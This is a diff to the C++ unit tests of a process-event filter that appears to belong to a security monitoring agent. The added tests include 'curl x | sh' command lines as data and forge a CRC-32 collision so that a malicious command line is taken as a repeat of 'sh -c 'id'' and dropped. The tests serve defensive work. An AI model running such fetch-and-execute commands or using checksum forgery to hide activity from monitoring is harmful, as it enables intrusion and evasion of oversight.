@@ -7,6 +7,7 @@
 
 #include "limit_drops_text.h"
 #include "comm/timer.h"
+#include "crc_twin.h"
 #include "base/mem.h"
 #include "qxkiv/digest.h"
 #include "task/task_filter.h"
@@ -134,13 +135,21 @@ TEST_F(TaskFilter, RepeatsAreHeldBackForAnHourButNotVip) {
     EXPECT_EQ(sleep_run("sh"), 0);
     EXPECT_EQ(sleep_run("sh"), -10);  // restamped
 
-    // Processes gone before they were read carry neither path nor command line: none of them
-    // is a repeat of another, and each is counted. One of the two alone still is.
-    int64_t blank0 = kiv_stat_get(TASK_FILTER_REDO_BLANK_CNT);
-    for (int i = 0; i < 3; i++) EXPECT_EQ(run({{"", ""}, {"/bin/sh", "sh"}}), 0) << i;
-    EXPECT_EQ(kiv_stat_get(TASK_FILTER_REDO_BLANK_CNT) - blank0, 3);
-    EXPECT_EQ(run({{"", "sleep 9"}}), 0);
-    EXPECT_EQ(run({{"", "sleep 9"}}), -10);
+    // Processes gone before they were read carry neither path nor command line: with
+    // redo_whole_cmdline none of them is a repeat of another, and each is counted; without,
+    // they share one checksum. One of the two alone is a repeat either way.
+    for (uint32_t whole : {0u, 1u}) {
+        SCOPED_TRACE(whole);
+        g_task_info.redo_whole_cmdline = whole;
+        set_ms(t0_ + 7200000 * (whole + 1));  // an hour after the rounds before
+        int64_t blank0 = kiv_stat_get(TASK_FILTER_REDO_BLANK_CNT);
+        for (int i = 0; i < 3; i++)
+            EXPECT_EQ(run({{"", ""}, {"/bin/sh", "sh"}}), i && !whole ? -10 : 0) << i;
+        EXPECT_EQ(kiv_stat_get(TASK_FILTER_REDO_BLANK_CNT) - blank0, whole ? 3 : 0);
+        EXPECT_EQ(run({{"", "sleep 9"}}), 0);
+        EXPECT_EQ(run({{"", "sleep 9"}}), -10);
+    }
+    g_task_info.redo_whole_cmdline = 0;
 }
 
 // Collector threads filter side by side: each distinct process passes exactly once, however
@@ -210,6 +219,32 @@ TEST_F(TaskFilter, RepeatKeysMatchOnlyEqualMaterial) {
     };
     EXPECT_TRUE(same(false, "echo benign", 0, "curl x | sh", 0));
     EXPECT_TRUE(same(false, "x", 0, "x", 65534));
+    // Without whole command lines the checksum alone decides, as it always did: a command whose
+    // 408-byte block (two slots of md5 text and command line) is a CRC-32 twin of another's is
+    // a repeat within the hour. With them, it is new.
+    auto block = [](const std::string &cmd0) {
+        std::string b(408, '\0');
+        b.replace(0, cmd0.size(), cmd0);
+        b.replace(204, 4, "bash");
+        return b;
+    };
+    const std::string honest = "sh -c 'id'";
+    std::string forged;
+    for (int i = 0; forged.empty(); i++) {
+        std::string head = "sh -c 'curl x|sh' #" + std::to_string(i);
+        std::string b =
+            crc_patch(block(head + "0000"), head.size(), mordek_crc32(block(honest).data(), 408),
+                      [](unsigned char c) { return c > 0x20 && c < 0x7f; });
+        if (!b.empty()) forged = b.substr(0, head.size() + 4);
+    }
+    for (uint32_t whole : {0u, 1u}) {
+        SCOPED_TRACE(whole);
+        g_task_info.redo_whole_cmdline = whole;
+        set_ms(t0_ + 7200000 * (whole + 1));
+        EXPECT_EQ(run({{"/bin/sh", honest}, {"/bin/bash", "bash"}}), 0);
+        EXPECT_EQ(run({{"/bin/sh", forged}, {"/bin/bash", "bash"}}), whole ? 0 : -10);
+    }
+    g_task_info.redo_whole_cmdline = 0;
     EXPECT_FALSE(same(true, "echo benign", 0, "curl x | sh", 0));
     EXPECT_FALSE(same(true, "x", 0, "x", 65534));
     EXPECT_TRUE(same(true, "x", 65534, "x", 65534));
